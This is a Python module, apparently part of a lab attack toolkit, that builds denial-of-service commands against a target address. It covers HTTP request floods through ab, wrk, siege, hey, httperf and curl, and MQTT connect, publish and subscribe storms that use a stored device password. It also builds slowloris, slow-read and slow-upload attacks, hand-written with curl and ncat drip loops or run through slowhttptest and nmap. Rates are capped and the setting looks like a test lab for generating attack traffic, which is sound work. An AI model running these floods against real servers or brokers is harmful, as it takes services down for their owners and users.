"""Floods of requests: HTTP and MQTT servers, and the slow kind."""

from __future__ import annotations

import sys

from wirespeak.lab.attacks.tool import MOST_PACKETS, MOST_PACKETS_PER_S, Strike, own, tool

_UNTIL = "while [ $(date +%s) -lt $end ]"


def _side_by_side(s: Strike, parallel: int, work: str) -> list[str]:
    """`work` in so many shells at once: each has its number in $1, and when to end in $end."""
    end = f"end=$(($(date +%s)+{int(s.seconds)}))"
    return ["sh", "-c", f"{end}; for w in $(seq {int(parallel)}); do (set -- $w; {work}) & done; wait"]


@tool("flood.http")
def own_http(
    s: Strike,
    *,
    port: int = 80,
    rate: float = 120.0,
    workers: int = 20,
    post: bool = False,
    keep: bool = False,
    page: str = "",
) -> list[str]:
    """GETs or POSTs from real sockets, a connection each or kept alive. Page "": another address each time."""
    return own(
        "requests",
        "http_flood",
        target=s.address,
        port=port,
        rate=min(rate, 500),
        workers=workers,
        post=post,
        keep=keep,
        page=page,
        seconds=s.seconds,
        seed=s.random.getrandbits(32),
    )


@tool("flood.http", package="apache2-utils")
def ab(s: Strike, *, rate: float = 60.0, clients: int = 3, keep: bool = False) -> list[str]:
    """ApacheBench. It knows no pace: `rate` bounds the number of requests, few clients their speed."""
    count = str(min(1200, s.count(rate)))
    return [
        "ab",
        "-q",
        "-r",
        "-s",
        "5",
        "-n",
        count,
        "-c",
        str(clients),
        *(["-k"] if keep else []),
        f"http://{s.address}/",
    ]


@tool("flood.http", package="wrk")
def wrk(s: Strike) -> list[str]:
    """wrk on one connection at a time for at most five seconds: it knows no pace."""
    return [
        "wrk",
        "-t1",
        "-c1",
        f"-d{int(min(5, s.seconds))}s",
        "-H",
        "Connection: close",
        f"http://{s.address}/",
    ]


@tool("flood.http", package="siege")
def siege(s: Strike, *, clients: int = 8, pause: float = 0.1) -> list[str]:
    """siege: clients that each wait up to `pause` seconds between requests."""
    return [
        "siege",
        "-q",
        f"-c{clients}",
        f"-d{pause}",
        f"-t{int(min(20, s.seconds))}S",
        f"http://{s.address}/api/state",
    ]


@tool("flood.http", package="hey")
def hey(
    s: Strike,
    *,
    clients: int = 5,
    rate: float = 60.0,
    page: str = "/",
    post: bool = False,
    keep: bool = False,
) -> list[str]:
    """hey: `clients` that together make `rate` requests a second."""
    return [
        "hey",
        "-z",
        f"{int(s.seconds)}s",
        "-c",
        str(clients),
        "-q",
        f"{min(rate, 300) / clients:g}",
        *([] if keep else ["-disable-keepalive"]),
        *(["-m", "POST", "-d", "x=1"] if post else []),
        f"http://{s.address}{page}",
    ]


@tool("flood.http", package="nghttp2-client")
def h2load(s: Strike, *, clients: int = 4, rate: float = 60.0, page: str = "/") -> list[str]:
    """h2load over HTTP/1.1, on connections kept alive: `clients` that together make `rate` requests a second."""
    pace = ["--rps", f"{min(rate, 300) / clients:g}", "-D", str(int(s.seconds))]
    return ["h2load", "--h1", "-c", str(clients), *pace, f"http://{s.address}{page}"]


@tool("flood.mqtt")
def own_mqtt_connect(
    s: Strike, *, rate: float = 80.0, port: int = 1883, password: bool = True, politely: bool = False
) -> list[str]:
    """Connection after connection to the broker."""
    return own(
        "requests",
        "mqtt_connect_flood",
        target=s.address,
        port=port,
        rate=min(rate, 400),
        seconds=s.seconds,
        password=s.world.passwords["device"] if password else "",
        politely=politely,
        seed=s.random.getrandbits(32),
    )


@tool("flood.mqtt")
def own_mqtt_publish(
    s: Strike,
    *,
    rate: float = 400.0,
    size: int = 200,
    qos: int = 0,
    clients: int = 10,
    port: int = 1883,
    per_connection: int = 40,
) -> list[str]:
    """Messages as fast as told, from many connections that come and go."""
    return own(
        "requests",
        "mqtt_publish_flood",
        target=s.address,
        port=port,
        rate=min(rate, MOST_PACKETS_PER_S),
        size=size,
        qos=qos,
        clients=clients,
        per_connection=per_connection,
        seconds=s.seconds,
        password=s.world.passwords["device"],
        seed=s.random.getrandbits(32),
    )


@tool("flood.mqtt")
def own_mqtt_subscribe(s: Strike, *, rate: float = 60.0, port: int = 1883) -> list[str]:
    """Connections that each subscribe to everything, again and again."""
    return own(
        "requests",
        "mqtt_connect_flood",
        target=s.address,
        port=port,
        rate=min(rate, 400),
        seconds=s.seconds,
        password=s.world.passwords["device"],
        politely=False,
        subscriptions=12,
        seed=s.random.getrandbits(32),
    )


@tool("flood.mqtt", package="mosquitto-clients")
def mosquitto_pub_storm(s: Strike, *, parallel: int = 8, lines: int = 20) -> list[str]:
    """Many mosquitto_pub processes, each sending lines and leaving."""
    base = f"seq {int(lines)} | mosquitto_pub -h {s.address} -t storm/$1 -l -u bulb -P {s.world.passwords['device']}"
    return _side_by_side(s, parallel, f"{_UNTIL}; do {base}; done")


@tool("flood.mqtt", package="mosquitto-clients")
def mosquitto_sub_storm(s: Strike, *, parallel: int = 6, topics: int = 2) -> list[str]:
    """Many mosquitto_sub processes that subscribe to a few topics and leave when one second is over."""
    named = " ".join(f"-t storm/{number}" for number in range(topics))
    one = f"mosquitto_sub -h {s.address} {named} -u bulb -P {s.world.passwords['device']} -C 1 -W 1 >/dev/null 2>&1"
    return _side_by_side(s, parallel, f"{_UNTIL}; do {one} & sleep 0.12; done")


@tool("flood.mqtt", package="mosquitto-clients")
def mosquitto_pub_repeat(s: Strike, *, parallel: int = 5, times: int = 60, qos: int = 1) -> list[str]:
    """mosquitto_pub processes that each repeat one message `times` times, without a pause, and come again."""
    one = f"mosquitto_pub -h {s.address} -t storm/$1 -m on -q {qos} --repeat {times} --repeat-delay 0.01 -u bulb -P {s.world.passwords['device']}"
    return _side_by_side(s, parallel, f"{_UNTIL}; do {one}; done")


@tool("flood.slow")
def slowloris(
    s: Strike,
    *,
    connections: int = 120,
    interval: float = 4.0,
    body: bool = False,
    chunked: bool = False,
    port: int = 80,
) -> list[str]:
    """Requests that never end: a header line, with `body` a few bytes, or with `chunked` a small chunk, now and then."""
    return own(
        "requests",
        "slow_http",
        target=s.address,
        port=port,
        connections=connections,
        interval=interval,
        body=body,
        chunked=chunked,
        seconds=s.seconds,
        seed=s.random.getrandbits(32),
    )


@tool("flood.slow")
def own_slow_read(s: Strike, *, connections: int = 60, interval: float = 2.0, port: int = 80) -> list[str]:
    """Answers taken a few bytes at a time."""
    return own(
        "requests",
        "slow_read",
        target=s.address,
        port=port,
        connections=connections,
        interval=interval,
        seconds=s.seconds,
        seed=s.random.getrandbits(32),
    )


@tool("flood.slow", package="slowhttptest")
def slowhttptest(s: Strike, *, mode: str = "H", connections: int = 100, interval: int = 4) -> list[str]:
    """mode H headers, B body, X slow read."""
    extra = {"H": [], "B": ["-s", "8192"], "X": ["-w", "10", "-y", "20", "-n", "3", "-z", "32", "-k", "3"]}[
        mode
    ]
    return [
        "slowhttptest",
        f"-{mode}",
        "-c",
        str(connections),
        "-i",
        str(interval),
        "-r",
        "40",
        "-l",
        str(int(s.seconds)),
        "-u",
        f"http://{s.address}/",
        "-p",
        "3",
        *extra,
    ]


@tool("flood.slow")
def pypi_slowloris(s: Strike, *, connections: int = 80, interval: int = 5, agents: bool = True) -> list[str]:
    """The package `slowloris`: header lines that never end."""
    pace = ["-s", str(connections), "--sleeptime", str(interval)]
    return [sys.executable, "-m", "slowloris", *pace, *(["-ua"] if agents else []), s.address]


@tool("flood.http", package="httperf")
def httperf(s: Strike, *, rate: float = 60.0, calls: int = 1, page: str = "/") -> list[str]:
    """httperf: `rate` connections a second with `calls` requests on each."""
    rate, calls = min(rate, 300), max(1, calls)
    connections = min(s.count(rate), MOST_PACKETS // calls)
    pace = ["--rate", f"{rate:g}", "--num-conns", str(connections), "--num-calls", str(calls)]
    return ["httperf", "--hog", "--timeout", "4", "--server", s.address, "--uri", page, *pace]


@tool("flood.mqtt", package="mosquitto-clients")
def mosquitto_pub_stream(
    s: Strike, *, parallel: int = 6, lines: int = 5, pause: float = 0.1, qos: int = 0
) -> list[str]:
    """mosquitto_pub processes that stay: every `pause` seconds `lines` messages on one connection each."""
    pause = max(pause, parallel * lines / MOST_PACKETS_PER_S)
    fed = f"{_UNTIL}; do seq {lines}; sleep {pause:g}; done"
    one = f"mosquitto_pub -h {s.address} -t storm/$1 -l -q {qos} -u bulb -P {s.world.passwords['device']}"
    return _side_by_side(s, parallel, f"{fed} | {one}")


@tool("flood.slow", package="nmap")
def nmap_slowloris(s: Strike, *, connections: int = 60, interval: int = 4) -> list[str]:
    """nmap's script http-slowloris: headers that never end, on as many connections as nmap keeps open."""
    given = f"http-slowloris.send_interval={interval}s,http-slowloris.timelimit={int(s.seconds)}s"
    script = ["--script", "http-slowloris", "--script-args", given]
    return ["nmap", "-n", "-Pn", "-sT", "-p80", "--max-parallelism", str(connections), *script, s.address]


@tool("flood.http", package="wbox")
def wbox(
    s: Strike, *, clients: int = 4, rate: float = 60.0, page: str = "/", head: bool = False
) -> list[str]:
    """wbox: `clients` at once without a pause. It knows no pace: `rate` bounds the number of requests."""
    count = max(1, min(1200, s.count(rate)) // clients)
    how = ["clients", str(clients), "wait", "0", "silent", *(["head"] if head else [])]
    return ["wbox", f"http://{s.address}{page}", str(count), *how]


@tool("flood.http", package="curl")
def curl_parallel(
    s: Strike, *, parallel: int = 4, rate: float = 60.0, page: str = "/", keep: bool = False
) -> list[str]:
    """curl with many addresses, `parallel` at once. It knows no pace: `rate` bounds the number of requests."""
    pages = f"http://{s.address}{page}?n=[1-{min(1200, s.count(rate))}]"
    how = ["-s", "-Z", "--parallel-max", str(parallel), *([] if keep else ["-H", "Connection: close"])]
    return ["curl", *how, "-o", "/dev/null", pages]


@tool("flood.http", package="httping")
def httping(
    s: Strike, *, rate: float = 60.0, parallel: int = 2, page: str = "/", get: bool = False
) -> list[str]:
    """httping: HEAD after HEAD, or GET, from `parallel` processes that together make `rate` a second."""
    each = min(rate, 300) / parallel
    count = f"-c {max(1, s.count(rate) // parallel)} -i {1 / each:.4f}"
    one = f"httping -q {'-G ' if get else ''}{count} -t 4 -g http://{s.address}{page}"
    return ["sh", "-c", f"for w in $(seq {parallel}); do {one} & done; wait"]


@tool("flood.mqtt", package="curl")
def curl_mqtt(s: Strike, *, parallel: int = 4, pause: float = 0.05, size: int = 20) -> list[str]:
    """curl's MQTT: a connection for each message, `parallel` at once."""
    message = "x" * min(size, 1000)
    one = f"curl -s -u bulb:{s.world.passwords['device']} -d {message} mqtt://{s.address}/storm/$1 >/dev/null 2>&1"
    return _side_by_side(s, parallel, f"{_UNTIL}; do {one}; sleep {max(pause, 0.01):g}; done")


@tool("flood.mqtt", package="mosquitto-clients")
def mosquitto_rr(s: Strike, *, parallel: int = 5, pause: float = 0.1) -> list[str]:
    """mosquitto_rr processes: each subscribes, asks under MQTT 5, waits a second for an answer, and leaves."""
    one = f"mosquitto_rr -h {s.address} -t storm/$1 -e storm/answer/$1 -m on -W 1 -u bulb -P {s.world.passwords['device']} >/dev/null 2>&1"
    return _side_by_side(s, parallel, f"{_UNTIL}; do {one} & sleep {max(pause, 0.05):g}; done")


def _drip(s: Strike, first: str, one: str, end: str, *, connections: int, interval: float) -> list[str]:
    """`connections` processes fed with `first` and then, every `interval` seconds, with a line `one`."""
    fed = f"(printf '{first}'; while sleep {max(interval, 0.5):g}; do printf '{one}'; done) | {end}"
    each = f"for i in $(seq {min(connections, 100)}); do {fed} >/dev/null 2>&1 & sleep 0.05; done; sleep {int(s.seconds)}"
    return ["timeout", str(int(s.seconds)), "sh", "-c", each]


@tool("flood.slow", package="curl")
def curl_slow(s: Strike, *, connections: int = 40, interval: float = 2.0, page: str = "/upload") -> list[str]:
    """curl processes whose upload is a few bytes now and then, and never ends."""
    heads = "-H Expect: -H Transfer-Encoding: -H 'Content-Length: 4096'"
    end = f"curl -s -X POST -T . {heads} http://{s.address}{page}"
    return _drip(s, "a=1", "&b=2", end, connections=connections, interval=interval)


@tool("flood.slow", package="ncat")
def ncat_slow(s: Strike, *, connections: int = 40, interval: float = 3.0, page: str = "/") -> list[str]:
    """ncat processes whose request is a header line now and then, and never ends."""
    first = f"GET {page} HTTP/1.1\\r\\nHost: {s.address}\\r\\n"
    return _drip(
        s, first, "X-More: 1\\r\\n", f"ncat {s.address} 80", connections=connections, interval=interval
    )
